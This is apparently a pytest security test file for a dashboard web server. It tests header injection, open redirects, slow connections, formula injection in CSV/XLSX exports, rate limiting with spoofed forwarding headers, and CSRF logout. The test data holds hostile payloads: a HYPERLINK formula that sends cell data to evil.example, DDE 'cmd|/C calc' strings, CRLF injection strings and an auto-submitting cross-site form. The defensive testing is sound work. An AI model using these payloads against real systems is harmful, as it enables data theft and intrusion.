"""Attacks on the real dashboard server: header injection and open redirects through ``next``, bodies and
connections that would hold it, requests that got no answer, formulas in exports, concurrent password
guessing, cookies behind a proxy, logout from another page. Raw sockets show the exact bytes on the wire;
headless Chromium shows what a browser does with them."""
from __future__ import annotations

import csv
import http.client
import io
import os
import re
import socket
import threading
import time
from contextlib import contextmanager
from urllib.parse import quote, urlsplit

import pytest
from openpyxl import load_workbook

from collector.storage import records
from collector.accounts.accounts import Scope
from collector.storage.db import connect
from collector.web.auth import RateLimiter
from collector.web.server import Dashboard, start_in_thread
from config.collector import CollectorConfig
from tests.ui.test_dashboard_browser import CFG, NOW, PASSWORD, sample_ratings

# Names as a kiosk (or anything writing to the database) could send them.
HOSTILE = {
    "officer": ['=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
                "\x1b[2J\x1b[31mĐỏ\u202e\u200bnét"],
    "service": ["+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"],
    "reason": ["=1+1"],
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # what spreadsheets may run as a formula
INJECT_NEXT = "/%0d%0aSet-Cookie:%20injected=1;%20Path=/%0d%0aX-Injected:%201"
OFF_SITE = ["/%09/evil.example/", "//evil.example/", "/%5Cevil.example/", "/%5C/evil.example/", "https://evil.example/",
            "/%0a/evil.example/", "%2F%2Fevil.example/", "/%E3%80%80/evil.example/", "javascript:alert(1)"]


def hostile_rows() -> list[records.RatingRow]:
    """The usual sample, plus a copy of its October ratings under hostile officer, service and reason names."""
    rows = sample_ratings(300)
    hostile = [row._replace(id=row.id.replace("-8000-", "-9000-"), officer=HOSTILE["officer"][i % 4],
                            service=HOSTILE["service"][i % 3], reason=HOSTILE["reason"][0] if row.rating <= 2 else None)
               for i, row in enumerate(rows) if row.ts.startswith("2026-10")]
    return rows + hostile


@pytest.fixture(scope="module")
def db_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("attacks") / "ratings.db"
    db = connect(f"sqlite:///{path}")
    rows = hostile_rows()
    with db.transaction():
        db.executemany(records.INSERT_RATING_SQL, rows)
        records.apply(db, records.increments(rows))
    db.close()
    return path


@contextmanager
def serving(db_path, cfg=CFG, **limits):
    """A real dashboard on a free loopback port; ``limits`` sets e.g. idle_timeout_s on this instance."""
    db = connect(f"sqlite:///{db_path}")
    app = Dashboard(cfg, db, PASSWORD, now=lambda: NOW)
    for k, v in limits.items():
        setattr(app, k, v)
    server, url = start_in_thread(app)
    try:
        yield app, url
    finally:
        server.shutdown()
        server.server_close()
        app.close()
        db.close()


@pytest.fixture(scope="module")
def dash(db_path):
    with serving(db_path, idle_timeout_s=1.0, request_timeout_s=2.5) as (app, url):
        yield app, url


def port_of(url: str) -> int:
    return urlsplit(url).port


def raw(url: str, data: bytes, timeout: float = 5.0) -> bytes:
    """Send bytes, read until the server closes (after the answer, or when the connection has been idle)."""
    with socket.create_connection(("127.0.0.1", port_of(url)), timeout=timeout) as s:
        s.sendall(data)
        chunks = []
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return b"".join(chunks)
            chunks.append(chunk)


def head_of(response: bytes) -> tuple[int, list[tuple[str, str]]]:
    head = response.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
    return int(head[0].split()[1]), [(k.title(), v) for k, v in (h.split(": ", 1) for h in head[1:])]


def login(url: str, password: str = PASSWORD, headers: dict | None = None,
          username: str = "admin") -> http.client.HTTPResponse:
    conn = http.client.HTTPConnection("127.0.0.1", port_of(url), timeout=30)
    body = f"username={quote(username)}&password={quote(password)}&next=/"
    conn.request("POST", "/login", body, {"Content-Type": "application/x-www-form-urlencoded", **(headers or {})})
    resp = conn.getresponse()
    resp.read()
    conn.close()
    return resp


def session_cookie(url: str) -> str:
    resp = login(url)
    assert resp.status == 303, resp.status
    return re.search(r"hl_session=([^;]+)", resp.getheader("Set-Cookie")).group(1)


def get(url: str, path: str, cookie: str | None = None, method: str = "GET", body: str | None = None,
        headers: dict | None = None) -> tuple[int, dict, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port_of(url), timeout=30)
    h = {**({"Cookie": f"hl_session={cookie}"} if cookie else {}), **(headers or {})}
    if body is not None:
        h["Content-Type"] = "application/x-www-form-urlencoded"
    conn.request(method, path, body, h)
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, {k.lower(): v for k, v in resp.getheaders()}, data


def browser_login(page, url: str) -> None:
    page.fill("input[name=username]", "admin")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")


def stay_on(page, url: str) -> list[str]:
    """Off-site requests are recorded and aborted (nothing leaves this machine)."""
    off_site: list[str] = []
    page.route(lambda u: not u.startswith(url), lambda route: (off_site.append(route.request.url), route.abort()))
    return off_site


# ---------------------------------------------------------------------------------------- redirect targets
def test_line_breaks_in_next_inject_no_header(dash):
    _, url = dash
    token = session_cookie(url)
    get_req = (f"GET /login?next={INJECT_NEXT} HTTP/1.1\r\nHost: x\r\nCookie: hl_session={token}\r\n\r\n").encode()
    status, headers = head_of(raw(url, get_req))
    assert status == 303
    assert ("Location", "/") in headers
    assert not [h for h in headers if h[0].lower() in ("x-injected", "set-cookie")], headers
    body = "username=admin&password=" + quote(PASSWORD) + "&next=" + INJECT_NEXT.replace("%0d%0a", "%0D%0A")
    post = (f"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n\r\n{body}").encode()
    status, headers = head_of(raw(url, post))
    assert status == 303 and ("Location", "/") in headers
    assert [h[0] for h in headers if h[0].lower() in ("x-injected", "set-cookie")] == ["Set-Cookie"], headers
    assert "injected" not in dict(headers)["Set-Cookie"]


@pytest.mark.parametrize("target", OFF_SITE)
def test_next_never_leads_off_site(dash, target):
    _, url = dash
    token = session_cookie(url)
    status, headers, _ = get(url, f"/login?next={target}", token)
    assert status == 303 and headers["location"] == "/", (target, headers["location"])
    body = f"username=admin&password={quote(PASSWORD)}&next={target}"
    status, headers, _ = get(url, "/login", method="POST", body=body)
    assert status == 303 and headers["location"] == "/", (target, headers["location"])


def test_a_same_site_path_with_its_query_is_still_a_redirect_target(dash):
    _, url = dash
    token = session_cookie(url)
    status, headers, _ = get(url, "/login?next=" + quote("/ranking?dim=officer&period=2026-10", safe="/"), token)
    assert status == 303 and headers["location"] == "/ranking?dim=officer&period=2026-10"


@pytest.mark.parametrize("path", ["/ranking?dim=officer&period=2026-10", "/admin?lang=en", "/officers/print?period=2026-10"])
def test_signed_out_pages_send_to_the_login_and_back_with_their_query(dash, path):
    _, url = dash
    status, headers, _ = get(url, path)
    assert status == 303 and headers["location"] == "/login?next=" + path


def test_chromium_logging_in_through_hostile_links_stays_on_the_dashboard(browser, dash):
    _, url = dash
    page = browser.new_page()
    off_site = stay_on(page, url)
    page.goto(url + "/login?next=" + INJECT_NEXT)
    browser_login(page, url)
    page.wait_for_load_state()
    names = {c["name"]: c["value"] for c in page.context.cookies()}
    assert "injected" not in names and set(names) <= {"hl_session", "hl_lang"}, names
    assert page.url == url + "/"
    for target in ("/%09/evil.example/", "/%5Cevil.example/"):  # logged in: /login redirects at once
        page.goto(url + "/login?next=" + target)
        assert page.url == url + "/", (target, page.url)
    assert off_site == []
    page.close()


# ---------------------------------------------------------------------------------------- bodies, time, answers
@pytest.mark.parametrize("length, status", [("-1", 400), ("abc", 400), ("１２", 400), ("1 2", 400),
                                            ("99999999999", 413), ("70000", 413)])
def test_a_bad_content_length_is_answered_without_reading_the_body(dash, length, status):
    _, url = dash
    with socket.create_connection(("127.0.0.1", port_of(url)), timeout=5) as s:
        s.sendall(f"POST /logout HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode() + b"A" * 4096)
        answer = s.recv(65536)  # the connection stays open on our side: the server must not wait for it
    assert answer.startswith(f"HTTP/1.1 {status} ".encode()), answer[:80]


def test_chunked_bodies_are_refused(dash):
    _, url = dash
    answer = raw(url, b"POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
    assert head_of(answer)[0] == 411


def test_idle_and_slow_connections_are_closed(dash):
    app, url = dash
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port_of(url)), timeout=10) as s:  # says nothing
        assert s.recv(100) == b""
    assert time.monotonic() - started < app.idle_timeout_s + 2
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port_of(url)), timeout=10) as s:  # one byte at a time
        s.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
        try:
            while time.monotonic() - started < 10:
                s.sendall(b"a")
                time.sleep(app.idle_timeout_s / 3)
        except (BrokenPipeError, ConnectionResetError):
            pass
    assert time.monotonic() - started < app.request_timeout_s + 2
    # a body that stops half-way gets 408 instead of holding the server
    with socket.create_connection(("127.0.0.1", port_of(url)), timeout=10) as s:
        s.sendall(b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nusername=adm")
        assert s.recv(100).startswith(b"HTTP/1.1 408 ")


def server_side_of(client: socket.socket) -> socket.socket:
    """The dashboard's end of a connection this process opened to it (the server runs in this process)."""
    want = (client.getpeername(), client.getsockname())
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            s = socket.fromfd(fd, socket.AF_INET, socket.SOCK_STREAM)
        except OSError:
            continue
        try:
            if (s.getsockname(), s.getpeername()) == want:
                return s
        except OSError:
            pass
        s.close()
    raise AssertionError(f"no socket of this process serves {want}")


def test_a_kept_alive_connection_answers_without_waiting_for_the_delayed_ack(dash):
    """A browser keeps one connection for its pages. The answer leaves in two writes (head, body); with
    Nagle's algorithm on, the body waited for the browser's delayed ACK: 40 ms more on every page but the
    first. So: a dozen answers on one connection, and the server's end of it has Nagle off. (How long the
    answers take: tests/bench/dashboard_keepalive.py.)"""
    app, url = dash
    cookie = session_cookie(url)
    conn = http.client.HTTPConnection("127.0.0.1", port_of(url), timeout=30)
    ends = set()
    try:
        for path in ["/login", "/devices"] * 6:
            conn.request("GET", path, headers={"Cookie": f"hl_session={cookie}"} if path != "/login" else {})
            resp = conn.getresponse()
            resp.read()
            assert resp.status in (200, 303)
            ends.add(conn.sock.getsockname())
        assert len(ends) == 1  # one connection served them all (http.client would quietly open a new one)
        server_end = server_side_of(conn.sock)
        try:
            assert server_end.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) != 0
        finally:
            server_end.close()
        # the control: a socket left as made has Nagle on, so the check above can tell
        with socket.create_connection(("127.0.0.1", port_of(url))) as plain:
            assert plain.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) == 0
    finally:
        conn.close()


def test_a_full_width_period_on_an_export_gets_an_answer(dash):
    _, url = dash
    token = session_cookie(url)
    status, headers, body = get(url, "/ranking.csv?dim=officer&period=" + quote("２０２６-10"), token)
    assert status == 200, body[:200]
    assert headers["content-disposition"].startswith('attachment; filename="ranking-officer-')
    assert "filename*=UTF-8''ranking-officer-" + quote("２０２６-10") in headers["content-disposition"]
    assert "Nguyễn Văn An" in body.decode("utf-8-sig")


def test_a_failing_page_still_gets_an_answer(dash, monkeypatch):
    from collector.web import server

    def broken(ctx):
        raise RuntimeError("the database went away")
    monkeypatch.setitem(server.VIEWS, "/devices", broken)
    _, url = dash
    status, _, body = get(url, "/devices", session_cookie(url))
    assert status == 500 and b"the database went away" not in body


def test_a_file_name_too_long_for_the_disk_is_not_found(dash):
    _, url = dash
    assert get(url, "/static/" + "a" * 5000 + ".css")[0] == 404


# ---------------------------------------------------------------------------------------- exports
def check_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    return rows


@pytest.mark.parametrize("path, names", [
    ("/ranking.csv?dim=officer&period=2026-10", HOSTILE["officer"]),
    ("/ranking.csv?dim=service&period=2026-10", HOSTILE["service"]),
    ("/patterns.csv?period=2026-10", HOSTILE["reason"]),
    ("/report.csv?period=2026-10", HOSTILE["officer"] + HOSTILE["service"]),
])
def test_dashboard_csv_cells_never_start_a_formula(dash, path, names):
    _, url = dash
    status, _, body = get(url, path, session_cookie(url))
    assert status == 200
    cells = {c for row in check_csv(body.decode("utf-8-sig")) for c in row}
    for name in names:
        assert ("'" + name if name.startswith(FORMULA_START) else name) in cells, name


@pytest.mark.parametrize("path", ["/ranking.xlsx?dim=officer&period=2026-10", "/ranking.xlsx?dim=service&period=2026-10",
                                  "/patterns.xlsx?period=2026-10", "/report.xlsx?period=2026-10"])
def test_dashboard_xlsx_cells_are_never_formulas(dash, path):
    _, url = dash
    status, _, body = get(url, path, session_cookie(url))
    assert status == 200, body[:300]
    wb = load_workbook(io.BytesIO(body))
    texts, numbers = set(), 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    assert cell.quotePrefix == cell.value.startswith(FORMULA_START)
                elif isinstance(cell.value, (int, float)):
                    numbers += 1
    assert numbers > 0  # counts and rates stay numbers
    hostile = [n for names in HOSTILE.values() for n in names]
    assert texts & set(hostile), "the hostile names are in the file, as text"


# ---------------------------------------------------------------------------------------- login limit
def test_forty_simultaneous_guesses_check_at_most_the_limit(db_path):
    with serving(db_path, per_client=64) as (app, url):  # 40 connections at once from one address
        calls = []
        verify = app.check.verify
        app.check.verify = lambda u, p: calls.append(p) or verify(u, p)  # counts what reaches the hash
        statuses: list[int] = []
        start = threading.Barrier(40)

        def guess(i):
            start.wait()
            statuses.append(login(url, f"guess-{i}").status)

        threads = [threading.Thread(target=guess, args=(i,)) for i in range(40)]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        assert len(calls) <= app.limiter.limit, f"{len(calls)} of 40 guesses were checked"
        assert sorted(statuses) == [401] * len(calls) + [429] * (40 - len(calls))
        assert login(url).status == 429  # the right password waits too, from this client


def test_behind_a_trusted_proxy_one_client_locked_out_leaves_the_others_in(db_path):
    cfg = CollectorConfig.model_validate({**CFG.model_dump(mode="json"), "dashboard": {
        **CFG.dashboard.model_dump(mode="json"), "trusted_proxies": ["127.0.0.1"]}})
    with serving(db_path, cfg) as (app, url):
        attacker = {"X-Forwarded-For": "203.0.113.9"}
        assert [login(url, f"sai-{i}", attacker).status for i in range(6)] == [401] * 5 + [429]
        assert login(url, headers=attacker).status == 429
        assert login(url, headers=attacker, username="other").status == 401  # another name: its own count
        manager = login(url, headers={"X-Forwarded-For": "198.51.100.4"})
        assert manager.status == 303 and "hl_session=" in manager.getheader("Set-Cookie")
        # a forged entry in front of the proxy's own does not make the attacker someone else
        assert login(url, headers={"X-Forwarded-For": "198.51.100.4, 203.0.113.9"}).status == 429


def test_behind_an_unlisted_proxy_five_wrong_passwords_lock_out_that_name_only(db_path):
    """No trusted_proxies: every manager comes from the proxy's one address (here 127.0.0.1)."""
    with serving(db_path) as (app, url):
        app.store.add("chu-tich-xa", "mat-khau-chu-tich-1", "viewer", Scope("all"))
        assert [login(url, f"sai-{i}").status for i in range(6)] == [401] * 5 + [429]
        assert login(url).status == 429  # that name waits, even with the right password
        assert login(url, "mat-khau-chu-tich-1", username="chu-tich-xa").status == 303  # another manager gets in


def test_guessing_from_many_addresses_is_slowed_and_the_manager_still_gets_in(db_path):
    cfg = CollectorConfig.model_validate({**CFG.model_dump(mode="json"), "dashboard": {
        **CFG.dashboard.model_dump(mode="json"), "trusted_proxies": ["127.0.0.1"]}})
    with serving(db_path, cfg, limiter=RateLimiter(limit=5, window_s=60, account_limit=10)) as (app, url):
        for i in range(2):  # the account's 10 failures from everywhere
            address = {"X-Forwarded-For": f"203.0.113.{i}"}
            assert [login(url, f"sai-{i}-{n}", address).status for n in range(5)] == [401] * 5
        address = {"X-Forwarded-For": "203.0.113.50"}
        assert [login(url, f"sai-50-{n}", address).status for n in range(3)] == [401, 429, 429]  # one try each
        assert login(url, headers={"X-Forwarded-For": "198.51.100.4"}).status == 303  # the manager, clean address


def test_forwarded_headers_from_an_untrusted_peer_are_ignored(db_path):
    with serving(db_path) as (app, url):
        statuses = [login(url, f"sai-{i}", {"X-Forwarded-For": f"10.0.0.{i}"}).status for i in range(6)]
        assert statuses == [401] * 5 + [429]  # rotating the header does not reset the count


# ---------------------------------------------------------------------------------------- cookies
def test_the_session_cookie_is_secure_when_the_trusted_proxy_says_https(db_path):
    https = {"X-Forwarded-Proto": "https"}
    with serving(db_path) as (app, url):
        assert "Secure" not in login(url).getheader("Set-Cookie").split("; ")
        assert "Secure" not in login(url, headers=https).getheader("Set-Cookie").split("; ")  # not believed
    cfg = CollectorConfig.model_validate({**CFG.model_dump(mode="json"), "dashboard": {
        **CFG.dashboard.model_dump(mode="json"), "trusted_proxies": ["127.0.0.0/8"]}})
    with serving(db_path, cfg) as (app, url):
        cookie = login(url, headers=https).getheader("Set-Cookie").split("; ")
        assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie
        assert "Secure" not in login(url).getheader("Set-Cookie").split("; ")  # plain HTTP from the proxy


# ---------------------------------------------------------------------------------------- logout
def test_logout_needs_a_post_from_the_dashboard_page(dash):
    _, url = dash
    token = session_cookie(url)
    assert get(url, "/logout", token)[0] == 404
    status, headers, _ = get(url, "/logout", token, method="POST", body="")
    assert status == 403 and "set-cookie" not in headers
    assert get(url, "/", token)[0] == 200  # still logged in
    page = get(url, "/", token)[2].decode()
    csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', page).group(1)
    assert get(url, "/logout", session_cookie(url), method="POST", body=f"csrf={csrf}")[0] == 403  # not its session
    status, headers, _ = get(url, "/logout", token, method="POST", body=f"csrf={csrf}")
    assert status == 303 and headers["location"] == "/login" and "Max-Age=0" in headers["set-cookie"]
    assert get(url, "/", token)[0] == 303


def test_chromium_another_page_cannot_log_the_manager_out(browser, dash):
    _, url = dash
    context = browser.new_context()
    page = context.new_page()
    page.goto(url + "/login")
    browser_login(page, url)
    assert page.url == url + "/"
    # a page of another origin on the same host (same site, so SameSite=Strict still sends the cookie)
    evil = f"http://127.0.0.1:{port_of(url) + 1 if port_of(url) < 65535 else 1}/evil"
    context.route(evil, lambda route: route.fulfill(content_type="text/html", body=(
        f'<form id="f" method="post" action="{url}/logout"></form><script>document.getElementById("f").submit()</script>')))
    with page.expect_response(url + "/logout") as posted:
        page.goto(evil)
    assert posted.value.request.method == "POST" and "hl_session=" in posted.value.request.all_headers().get("cookie", "")
    page.goto(url + "/ranking")
    assert page.url == url + "/ranking", "another page logged the manager out"
    page.goto(url + "/logout")  # a link or an <img> is a GET: no logout either
    page.goto(url + "/")
    assert page.url == url + "/"
    page.click("form.logout button")  # the dashboard's own button still works
    page.wait_for_url(re.compile(re.escape(url) + "/login"))
    page.goto(url + "/")
    assert "/login?next=/" in page.url
    context.close()
